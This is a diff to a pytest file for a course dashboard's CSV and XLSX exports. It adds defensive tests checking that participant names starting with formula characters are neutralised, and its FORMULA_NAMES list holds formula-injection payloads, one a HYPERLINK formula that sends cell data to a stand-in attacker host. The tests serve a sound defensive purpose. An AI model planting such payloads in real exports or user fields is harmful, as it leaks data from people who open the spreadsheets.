@@ -253,7 +253,40 @@ def test_xlsx_export_opens_with_openpyxl(client, world, admin_facilitator, progr
     by_name = {row[0]: row for row in rows[1:]}
     assert set(by_name) == {"Ana Test", "Bruno Test", "Carla Test", "Dario Test", "Participante Test"}
     percent_column = rows[0].index(next(h for h in rows[0] if h in ("Course %", translated("Course %"))))
-    assert by_name["Dario Test"][percent_column] == 50
+    assert by_name["Dario Test"][percent_column] == 0.5  # a real percentage: 50 %
+
+
+def test_xlsx_cells_are_typed_and_the_header_row_frozen(client, world, admin_facilitator, progress_world):
+    client.force_login(admin_facilitator)
+    response = client.get(dashboard_url(world.cohort, "?export=progress&format=xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in sheet[1]]
+    percent_column = header.index(next(h for h in header if h in ("Course %", translated("Course %")))) + 1
+    assert sheet.freeze_panes == "A2"
+    assert sheet.cell(row=2, column=percent_column).number_format == "0%"
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&B3,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd"]
+
+
+@pytest.mark.parametrize("kind", ["progress", "attendance", "participation"])
+def test_csv_exports_neutralise_formulas_in_names(client, world, admin_facilitator, progress_world, kind):
+    for n, name in enumerate(FORMULA_NAMES):
+        enrol(make_user(f"formula{n}", first_name=name, last_name=""), world.cohort)
+    client.force_login(admin_facilitator)
+    text = client.get(dashboard_url(world.cohort, f"?export={kind}&format=csv")).content.decode("utf-8-sig")
+    cells = [line.split(",")[0] for line in text.splitlines()[1:]]
+    dangerous = [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@", "\t"))]
+    assert dangerous == []
+
+
+def test_xlsx_exports_write_names_as_text_never_formulas(client, world, admin_facilitator, progress_world):
+    enrol(make_user("formula", first_name=FORMULA_NAMES[0], last_name=""), world.cohort)
+    client.force_login(admin_facilitator)
+    response = client.get(dashboard_url(world.cohort, "?export=participation&format=xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    name_cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.data_type for c in name_cells if c.value == FORMULA_NAMES[0]] == ["s"]
 
 
 def test_unknown_export_is_404(client, world, admin_facilitator):
